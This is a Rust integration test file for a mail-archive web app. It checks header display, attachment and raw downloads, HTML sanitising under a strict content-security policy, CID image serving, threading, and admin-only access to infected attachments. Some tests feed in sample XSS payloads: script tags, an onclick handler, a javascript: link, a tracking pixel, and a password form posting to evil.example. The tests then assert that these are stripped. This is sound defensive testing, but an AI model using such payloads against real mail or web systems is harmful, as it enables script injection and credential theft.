use super::fixtures::{Mail, archive, build, world};

#[tokio::test]
async fn the_message_page_shows_headers_attachments_and_the_thread() {
    let w = world().await;
    let [invoice, reply, figures, _] = w.sales_ids[..] else {
        panic!()
    };
    let (status, html) = w.app.page(&w.reader, &format!("/messages/{reply}")).await;
    assert_eq!(status, 200);
    assert!(
        html.contains("Bob Baker &lt;bob@example.com&gt;")
            || html.contains("Bob Baker &#60;bob@example.com&#62;"),
        "{html}"
    );
    assert!(html.contains("reply-1042@example.com"));
    assert!(html.contains("Paid today."));
    assert!(html.contains("Show all headers"));
    assert!(
        html.contains(&format!("href=\"/messages/{invoice}\"")),
        "thread links to the parent"
    );

    let (_, html) = w.app.page(&w.reader, &format!("/messages/{figures}")).await;
    assert!(html.contains("figures-q1.pdf"));
    let link = format!("/messages/{figures}/attachments/");
    let start = html.find(&link).expect("attachment link");
    let end = html[start..].find('"').unwrap() + start;
    let res = w
        .reader
        .get(w.app.url(&html[start..end]))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let h = res.headers().clone();
    assert_eq!(h["content-type"], "application/octet-stream");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert!(
        h["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment; filename=\"figures-q1.pdf\"")
    );
    assert_eq!(
        &res.bytes().await.unwrap()[..],
        b"%PDF-1.4 not really a pdf"
    );

    let actions = w.app.audit_actions().await;
    assert!(actions.iter().filter(|a| *a == "mail.view").count() >= 2);
    assert!(actions.contains(&"mail.attachment".to_string()));
}

#[tokio::test]
async fn the_original_downloads_byte_for_byte() {
    let w = world().await;
    let id = w.sales_ids[0];
    let stored: Vec<u8> = sqlx::query_scalar("SELECT blob_sha256 FROM messages WHERE id = $1")
        .bind(id)
        .fetch_one(&w.app.pool)
        .await
        .unwrap();
    let res = w
        .reader
        .get(w.app.url(&format!("/messages/{id}/raw")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert!(
        res.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains(".eml")
    );
    assert_eq!(
        res.headers()["content-type"],
        "application/octet-stream",
        "a neutral type: a browser saves the original, never opens it as mail"
    );
    let bytes = res.bytes().await.unwrap();
    assert_eq!(daygle::archive::blobs::sha256(&bytes).to_vec(), stored);
    assert!(
        w.app
            .audit_actions()
            .await
            .contains(&"mail.download".to_string())
    );
}

#[tokio::test]
async fn html_bodies_are_sanitised_framed_and_remote_images_wait_for_consent() {
    let w = world().await;
    let raw = build(&Mail {
        subject: "Hostile newsletter",
        message_id: "hostile@example.org",
        html: Some(
            r#"<h1 onclick="alert(1)">Big news</h1><script>document.title='pwned'</script>
               <img src="https://tracker.example/pixel.gif"><a href="javascript:alert(2)">click</a>
               <form action="https://evil.example"><input name="pw"></form>"#,
        ),
        ..Mail::default()
    });
    let id = archive(&w.app, w.sales, "Promotions", vec![raw]).await[0];
    let (status, page) = w.app.page(&w.reader, &format!("/messages/{id}")).await;
    assert_eq!(status, 200);
    assert!(page.contains(r#"<iframe class="mail-frame" title="Message body" sandbox="allow-popups allow-popups-to-escape-sandbox""#));
    assert!(page.contains("Load 1 remote image(s)"));

    let res = w
        .reader
        .get(w.app.url(&format!("/messages/{id}/body")))
        .send()
        .await
        .unwrap();
    let csp = res.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        csp.contains("default-src 'none'")
            && csp.contains("sandbox")
            && csp.contains("form-action 'none'")
    );
    assert!(
        !csp.contains("https:"),
        "remote images allowed without consent: {csp}"
    );
    assert_eq!(res.headers()["x-frame-options"], "SAMEORIGIN");
    let body = res.text().await.unwrap();
    assert!(body.contains("Big news"));
    for bad in [
        "<script",
        "onclick",
        "javascript:",
        "<form",
        "tracker.example",
    ] {
        assert!(!body.contains(bad), "{bad} in sanitised body");
    }

    let res = w
        .reader
        .get(w.app.url(&format!("/messages/{id}/body?remote=1")))
        .send()
        .await
        .unwrap();
    assert!(
        res.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("https:")
    );
    assert!(
        res.text()
            .await
            .unwrap()
            .contains("https://tracker.example/pixel.gif")
    );
}

#[tokio::test]
async fn plain_text_is_escaped_with_safe_links() {
    let w = world().await;
    let raw = build(&Mail {
        subject: "Plain",
        message_id: "plain@example.org",
        body: "<b>not bold</b> see https://example.org/x",
        ..Mail::default()
    });
    let id = archive(&w.app, w.sales, "Plain", vec![raw]).await[0];
    let (_, html) = w.app.page(&w.reader, &format!("/messages/{id}")).await;
    assert!(html.contains("&lt;b&gt;not bold&lt;/b&gt;"));
    assert!(html.contains(
        r#"<a href="https://example.org/x" rel="noopener noreferrer nofollow" target="_blank">"#
    ));
}

#[tokio::test]
async fn inline_cid_images_are_served_from_the_archive_and_only_as_images() {
    let w = world().await;
    // A 1x1 PNG.
    let png: &[u8] = &[
        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0,
        0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0x0a, 0x49, 0x44,
        0x41, 0x54, 0x78, 0x9c, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0d, 0x0a, 0x2d, 0xb4, 0, 0, 0, 0,
        0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
    ];
    let raw = mail_builder::MessageBuilder::new()
        .from(("Alice", "alice@example.org"))
        .to("team@example.org")
        .subject("Logo inside")
        .message_id("cid-test@example.org")
        .html_body(r#"<p>Our logo:</p><img src="cid:logo@example.org" alt="logo">"#)
        .inline("image/png", "logo@example.org", png)
        .inline(
            "text/html",
            "evil@example.org",
            "<script>alert(1)</script>".as_bytes(),
        )
        .write_to_vec()
        .unwrap();
    let id = archive(&w.app, w.sales, "Inline", vec![raw]).await[0];
    let body = w
        .app
        .page(&w.reader, &format!("/messages/{id}/body"))
        .await
        .1;
    assert!(
        body.contains(&format!(r#"src="/messages/{id}/cid/logo%40example.org""#)),
        "{body}"
    );
    let res = w
        .reader
        .get(w.app.url(&format!("/messages/{id}/cid/logo%40example.org")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "image/png");
    assert_eq!(&res.bytes().await.unwrap()[..], png);
    // A non-image inline part is never served inline.
    let (status, _) = w
        .app
        .page(&w.reader, &format!("/messages/{id}/cid/evil%40example.org"))
        .await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn mail_without_references_is_threaded_by_subject() {
    let w = world().await;
    let first = build(&Mail {
        subject: "Lunch on Friday?",
        message_id: "lunch-1@example.org",
        date: 1_717_200_000,
        ..Mail::default()
    });
    let answer = build(&Mail {
        from: ("Bob Baker", "bob@example.com"),
        subject: "RE: Lunch on Friday?",
        message_id: "lunch-2@example.com",
        date: 1_717_210_000,
        ..Mail::default()
    });
    let ids = archive(&w.app, w.sales, "Social", vec![first, answer]).await;
    let (_, html) = w
        .app
        .page(&w.reader, &format!("/messages/{}", ids[1]))
        .await;
    assert!(html.contains("Conversation (2)"), "{html}");
    assert!(html.contains(&format!("href=\"/messages/{}\"", ids[0])));
}

#[tokio::test]
async fn attachments_of_mail_flagged_infected_are_for_administrators_only() {
    let w = world().await;
    let figures = w.sales_ids[2];
    sqlx::query("UPDATE messages SET scan_status = 'infected', virus_name = 'Eicar-Test-Signature' WHERE id = $1")
        .bind(figures)
        .execute(&w.app.pool)
        .await
        .unwrap();
    let (_, page) = w.app.page(&w.reader, &format!("/messages/{figures}")).await;
    assert!(page.contains("Virus found: Eicar-Test-Signature"));
    assert!(
        !page.contains(&format!("/messages/{figures}/attachments/")),
        "download link shown"
    );
    let html = w
        .app
        .page(&w.admin, &format!("/messages/{figures}"))
        .await
        .1;
    let link = format!("/messages/{figures}/attachments/");
    let start = html.find(&link).expect("admin sees the link");
    let end = html[start..].find('"').unwrap() + start;
    assert_eq!(w.app.page(&w.reader, &html[start..end]).await.0, 403);
    assert_eq!(w.app.page(&w.admin, &html[start..end]).await.0, 200);
}
